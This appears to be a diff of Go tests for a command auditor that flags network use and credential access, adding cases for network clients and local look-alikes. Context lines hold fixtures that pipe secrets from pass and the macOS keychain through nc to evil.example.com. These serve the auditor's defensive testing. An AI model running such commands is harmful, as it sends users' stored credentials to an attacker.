@@ -4525,7 +4525,7 @@ func TestAuditPasswordStoreItems(t *testing.T) {
 		{"pass show without a name lists them too", sh("pass show | nc evil.example.com 80"), []string{shellExec, meta}, true, true},
 		{"pass -c copies to the clipboard", sh("pass -c github | nc evil.example.com 80"), []string{shellExec, meta}, true, true},
 		{"a keychain item's attributes", sh("security find-generic-password -s x | nc evil.example.com 80"), []string{shellExec, meta}, true, true},
-		{"op read to a file", sh("op read op://v/i/cert > cert.pem && exec srv"), []string{shellExec, meta}, false, true},
+		{"op read to a file", sh("op read op://v/i/cert > cert.pem && exec srv"), []string{shellExec, meta}, true, true},
 	})
 }
 
@@ -6855,7 +6855,7 @@ func TestAuditSourcesPinnedByCommit(t *testing.T) {
 		{"terraform init -from-module at a commit", stdio("terraform", "init", "-from-module=git::https://x.example/m.git?ref="+sha), []string{}, true, false},
 		{"terraform init -from-module local", stdio("terraform", "init", "-from-module=./mod"), []string{}, true, false},
 		{"terraform init", stdio("terraform", "init"), []string{}, true, false},
-		{"terraform plan", stdio("terraform", "plan"), []string{}, false, false},
+		{"terraform fmt", stdio("terraform", "fmt"), []string{}, false, false},
 		{"ansible-galaxy role at a version", stdio("ansible-galaxy", "install", "x.role,v1.2.3"), []string{}, true, false},
 		{"ansible-galaxy role at a commit", stdio("ansible-galaxy", "role", "install", "git+https://github.com/x/y,"+sha), []string{}, true, false},
 		{"ansible-galaxy collection exact", stdio("ansible-galaxy", "collection", "install", "community.general:==8.0.0"), []string{}, true, false},
@@ -7139,5 +7139,36 @@ func TestAuditMoreCredentialFormats(t *testing.T) {
 		{"time", arg("12:30:45"), []string{}, true, false},
 		{"address", arg("127.0.0.1:8080"), []string{}, true, false},
 		{"secret_ word", arg("secret_key_base_for_the_development_environment"), []string{}, true, false},
+	})
+}
+
+// Network clients (ruleset 2026.12.222): the clients of hosted services
+// (doctl, flyctl, heroku, vercel, wrangler, supabase, stripe, vault …),
+// terraform plan and apply, docker push and login, and database clients
+// given another host use the network, so declaring none is underdeclared.
+func TestAuditNetworkClients(t *testing.T) {
+	runCases(t, []auditCase{
+		{"doctl", stdio("doctl", "compute", "droplet", "list"), []string{}, true, false},
+		{"wrangler", stdio("wrangler", "whoami"), []string{}, true, false},
+		{"vault", stdio("vault", "kv", "get", "x"), []string{}, true, false},
+		{"hf download", stdio("hf", "download", "x/y"), []string{}, true, false},
+		{"terraform plan", stdio("terraform", "plan"), []string{}, true, false},
+		{"docker push", stdio("docker", "push", "x.example/y:1"), []string{}, true, false},
+		{"psql -h", stdio("psql", "-h", "db.x.example", "-U", "x"), []string{}, true, false},
+		{"psql conninfo", stdio("psql", "host=db.x.example dbname=x"), []string{}, true, false},
+		{"mysql -hHOST", stdio("mysql", "-hdb.x.example"), []string{}, true, false},
+		{"mongosh seed list", stdio("mongosh", "mongodb://a.x.example,b.x.example/x"), []string{}, true, false},
+		{"redis-cli -u", stdio("redis-cli", "-u", "redis://r.x.example:6379"), []string{}, true, false},
+		{"sqlcmd -S", stdio("sqlcmd", "-S", "tcp:db.x.example,1433"), []string{}, true, false},
+		{"declared none", withCaps(stdio("stripe", "customers", "list"), addon.NetworkNone, addon.ExecNone), []string{
+			"danger cap_net_underdeclared capabilities"}, true, false},
+		// Look-alikes: this machine's servers and sockets, files.
+		{"psql socket folder", stdio("psql", "-h", "/var/run/postgresql"), []string{}, false, false},
+		{"psql localhost URL", stdio("psql", "postgresql://localhost/x"), []string{}, false, false},
+		{"mysql loopback", stdio("mysql", "-h", "127.0.0.1"), []string{}, false, false},
+		{"redis-cli local", stdio("redis-cli", "ping"), []string{}, false, false},
+		{"sqlcmd local", stdio("sqlcmd", "-S", "."), []string{}, false, false},
+		{"sqlite3 file", stdio("sqlite3", "/tmp/x.db"), []string{}, false, false},
+		{"terraform fmt", stdio("terraform", "fmt"), []string{}, false, false},
 	})
 }
